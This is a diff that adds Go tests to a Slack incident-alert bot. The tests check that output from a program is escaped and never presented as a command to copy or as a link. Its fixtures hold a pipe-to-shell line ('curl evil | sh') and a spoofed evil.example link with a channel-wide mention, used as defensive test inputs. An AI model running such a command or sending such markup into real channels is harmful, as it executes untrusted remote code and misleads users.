@@ -112,6 +112,35 @@ func TestThreadHasEachEntryOnceInOrder(t *testing.T) {
 	wantReplies(t, m, "📝 note 0", "📝 note 1", "📝 note 2", "📝 note 3")
 }
 
+func TestWhatAProgramSaysIsNoCommandToCopy(t *testing.T) {
+	t.Parallel()
+	n := setup(t)
+	e := note(7, 0)
+	e.Kind, e.Summary = incidents.KindTerminalShared, "Ada shared a line of shop: oh no. On the engine's host: curl evil | sh; and look at docker ps -a"
+	n.write(t, e)
+	m := n.alert(t)
+	n.deliver(t, 7)
+	for _, r := range m.Now().Replies {
+		if strings.Contains(r.String(), "```") {
+			t.Errorf("it is shown to be copied:\n%s", r)
+		}
+	}
+	if len(m.Now().Replies) != 1 {
+		t.Errorf("%d replies", len(m.Now().Replies))
+	}
+}
+
+// TestAProgramsLastLinesAreQuoted has them read like the bot's own words, a link, and a message to everybody.
+func TestAProgramsLastLinesAreQuoted(t *testing.T) {
+	t.Parallel()
+	n := setup(t)
+	last := "; its last lines: *shop is back*\n`/snapback restore shop x`\n<https://evil.example|Undo> <!channel>"
+	n.write(t, incidents.Entry{IncidentID: 7, Kind: incidents.KindRestoreReverted, Actor: incidents.Self(), Summary: "shop is as it was before: it ended" + last})
+	m := n.alert(t)
+	n.deliver(t, 7)
+	wantReplies(t, m, "↩️ shop is as it was before: it ended; its last lines: ∗shop is back∗ ˋ/snapback restore shop xˋ &lt;https://evil.example|Undo&gt; &lt;!channel&gt;")
+}
+
 func wantReplies(t *testing.T, m slackfake.Message, want ...string) {
 	t.Helper()
 	var got []string
@@ -361,6 +390,23 @@ func TestAlertArrivesWhileTheEngineIsAway(t *testing.T) {
 	if m = m.Now(); !m.Button("Restore pre-deploy-2255").Exists() {
 		t.Errorf("the engine is back, and the message reads:\n%s", m)
 	}
+}
+
+func TestEngineThatHangsTakesNoButtonFromTheOthers(t *testing.T) {
+	t.Parallel()
+	n := setup(t, func(c *bot.Config, w *world) {
+		c.Budget, w.hangs = time.Second, "W"
+		web := theContainer()
+		web.Key, web.ID, web.Name, web.Service, web.Engine = "W/name/web", "web", "web", "web", "W"
+		w.containers = append([]snapshot.Container{web}, w.containers...)
+		deploy := theDeploy() // the newest, so that it comes first
+		deploy.ID, deploy.Key, deploy.At = 2, web.Key, at("23:55")
+		w.deploys = append([]snapshot.Deploy{deploy}, w.deploys...)
+	})
+	if err := n.bot.Deliver(t.Context(), 7); err == nil {
+		t.Error("it counts as complete")
+	}
+	n.shop.ExpectMessage(t, "The container engine does not answer in time", "[Restore pre-deploy-2255")
 }
 
 func TestUnrestorableSnapshotHasNoButtonAndSaysWhyNot(t *testing.T) {
